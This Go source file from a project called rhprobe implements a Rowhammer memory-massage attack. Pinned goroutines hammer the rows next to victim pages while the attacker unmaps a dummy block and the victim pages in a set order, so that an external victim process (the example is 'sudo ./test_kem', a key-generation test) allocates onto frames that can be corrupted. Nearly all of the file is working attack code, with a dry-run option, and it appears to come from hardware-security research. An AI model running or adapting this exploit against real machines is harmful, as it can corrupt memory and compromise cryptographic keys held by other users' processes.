// Copyright 2024 rhprobe authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package rhprobe

import (
	"context"
	"os/exec"
	"strconv"
	"time"
	"unsafe"

	"github.com/pkg/errors"
)

// AttackConfig parameterizes one memory-massage attack run.
type AttackConfig struct {
	Candidates []PageCandidate
	Method     AttackMethod

	// DummyFraction sizes the auxiliary dummy block as a fraction of
	// physical memory; its unmapping, split around the victim pages,
	// is what creates the hole the victim allocation races into.
	DummyFraction float64

	// WarmupDelay is how long the attacker role waits, after sentinel
	// writes complete, before starting the unmap sequence. Default 10s.
	WarmupDelay time.Duration

	CoreAttacker int
	CoreVictim   int
	CoreHammerer int
	// CoreDegrade is the core the degradation helper is pinned to;
	// it runs alongside the victim, not on the victim's core.
	CoreDegrade int

	// VictimCommand is argv for the external victim workload, e.g.
	// {"sudo", "./test_kem"}. It is always invoked as a separate OS
	// process.
	VictimCommand []string
	// DegradeCommand, if non-empty, is argv for the external
	// degradation helper, started before the victim workload and
	// killed once the victim exits.
	DegradeCommand []string

	// DryRun disables the hammerer goroutine's actual hammer calls
	// while keeping every other step (mapping, unmap ordering, pinning,
	// sentinel writes, victim invocation), so the massage race can be
	// rehearsed without risking real corruption.
	DryRun bool

	// Iterations is the hammer iteration count the hammerer role uses
	// per candidate pair. Ignored if Calibrate is set. Defaults to
	// DefaultIterations.
	Iterations int
	// Calibrate, if set, runs CheckAttackTimeNeeded against the first
	// candidate before starting the roles and uses its result as
	// Iterations, sizing the hammer loop to the victim's key-generation
	// window instead of a fixed iteration count.
	Calibrate       bool
	CalibrateConfig CalibrateConfig
}

func (c *AttackConfig) setDefaults() {
	if c.WarmupDelay == 0 {
		c.WarmupDelay = 10 * time.Second
	}
	if c.Iterations == 0 {
		c.Iterations = DefaultIterations
	}
}

// Run executes the attack: it reserves a dummy block, fills it and the
// victim pages with sentinel bytes, then runs the attacker and
// hammerer roles as two goroutines pinned to disjoint cores. The
// attacker waits out WarmupDelay, unmaps the dummy block's first half,
// every candidate's victim page, and the dummy block's second half (in
// that order), invokes the victim workload and any degradation helper,
// waits for them, and signals the hammerer to stop.
func (c AttackConfig) Run(ctx context.Context) error {
	c.setDefaults()
	if len(c.Candidates) == 0 {
		return errors.New("attack: no candidates supplied")
	}
	if c.Calibrate {
		iterations, elapsed := CalibrateCandidate(c.Method, c.Candidates[0], c.CalibrateConfig)
		log.Infof("attack: calibrated %d iterations in %s", iterations, elapsed)
		c.Iterations = iterations
	}

	dummy, err := AllocatePopulatedMapping(c.DummyFraction)
	if err != nil {
		return err
	}
	defer dummy.Close()

	fillSentinels(dummy, c.Candidates)

	stop := make(chan struct{})
	done := make(chan struct{})
	go hammererRole(c, stop, done)

	err = attackerRole(ctx, c, dummy)
	close(stop)
	<-done
	return err
}

// fillSentinels fills every page of the dummy block and every
// candidate's victim page with a known byte derived from its index
// (the first victim page gets 0x00), forcing the pages into physical
// memory and giving the attacker a way to recognise corruption later.
func fillSentinels(dummy *Mapping, candidates []PageCandidate) {
	for i, addr := range dummy.PageAddrs() {
		writeSentinelPage(addr, byte((len(candidates)+i)&0xFF))
	}
	for i, cand := range candidates {
		writeSentinelPage(cand.Victim.VirtAddr, byte(i&0xFF))
	}
}

func writeSentinelPage(addr uintptr, value byte) {
	base := (*[4096]byte)(unsafe.Pointer(addr))
	for i := range base {
		base[i] = value
	}
}

// hammererRole pins itself to CoreHammerer and continuously hammers
// every candidate's above/below pair until stop is closed. Unless
// DryRun is set, this is the loop that actually corrupts the frames
// the attacker frees underneath the victim's allocation.
func hammererRole(cfg AttackConfig, stop <-chan struct{}, done chan<- struct{}) {
	defer close(done)
	if err := PinToCore(cfg.CoreHammerer); err != nil {
		log.Errorf("hammerer: pin to core %d: %v", cfg.CoreHammerer, err)
		return
	}
	if cfg.DryRun {
		<-stop
		return
	}
	for {
		select {
		case <-stop:
			return
		default:
		}
		for _, cand := range cfg.Candidates {
			if err := Hammer(cfg.Method, cand.Above[0].VirtAddr, cand.Below[0].VirtAddr, cfg.Iterations); err != nil {
				log.Errorf("hammerer: %v", err)
				return
			}
		}
	}
}

// attackerRole pins itself to CoreAttacker, waits WarmupDelay, unmaps
// the dummy block's halves around every candidate's victim page, then
// starts the degradation helper (if configured) on CoreDegrade,
// invokes the victim workload pinned to CoreVictim, waits for it, and
// kills the helper once the victim exits.
func attackerRole(ctx context.Context, cfg AttackConfig, dummy *Mapping) error {
	if err := PinToCore(cfg.CoreAttacker); err != nil {
		return errors.Wrap(err, "attacker: pin to core")
	}

	select {
	case <-time.After(cfg.WarmupDelay):
	case <-ctx.Done():
		return ctx.Err()
	}

	if err := dummy.UnmapRange(dummy.FirstHalf()); err != nil {
		return errors.Wrap(err, "attacker: unmap dummy first half")
	}
	for _, cand := range cfg.Candidates {
		if err := UnmapPage(cand.Victim.VirtAddr); err != nil {
			return errors.Wrap(err, "attacker: unmap victim page")
		}
	}
	if err := dummy.UnmapRange(dummy.SecondHalf()); err != nil {
		return errors.Wrap(err, "attacker: unmap dummy second half")
	}

	var degrade *exec.Cmd
	if len(cfg.DegradeCommand) > 0 {
		d, err := startPinned(ctx, cfg.DegradeCommand, cfg.CoreDegrade)
		if err != nil {
			log.Warnf("attacker: start degradation helper: %v", err)
		} else {
			degrade = d
		}
	}

	victimErr := runPinned(ctx, cfg.VictimCommand, cfg.CoreVictim)

	if degrade != nil {
		if err := degrade.Process.Kill(); err != nil {
			log.Warnf("attacker: kill degradation helper: %v", err)
		}
		_ = degrade.Wait()
	}

	if victimErr != nil {
		return errors.Wrap(ErrVictimWorkloadCrash, victimErr.Error())
	}
	return nil
}

// pinnedCommand builds argv as a subprocess pinned to core via taskset
// rather than asking the child to pin itself.
func pinnedCommand(ctx context.Context, argv []string, core int) (*exec.Cmd, error) {
	if len(argv) == 0 {
		return nil, errors.New("attack: empty command")
	}
	full := append([]string{"taskset", "-c", strconv.Itoa(core)}, argv...)
	return exec.CommandContext(ctx, full[0], full[1:]...), nil
}

func runPinned(ctx context.Context, argv []string, core int) error {
	cmd, err := pinnedCommand(ctx, argv, core)
	if err != nil {
		return err
	}
	return cmd.Run()
}

func startPinned(ctx context.Context, argv []string, core int) (*exec.Cmd, error) {
	cmd, err := pinnedCommand(ctx, argv, core)
	if err != nil {
		return nil, err
	}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	return cmd, nil
}
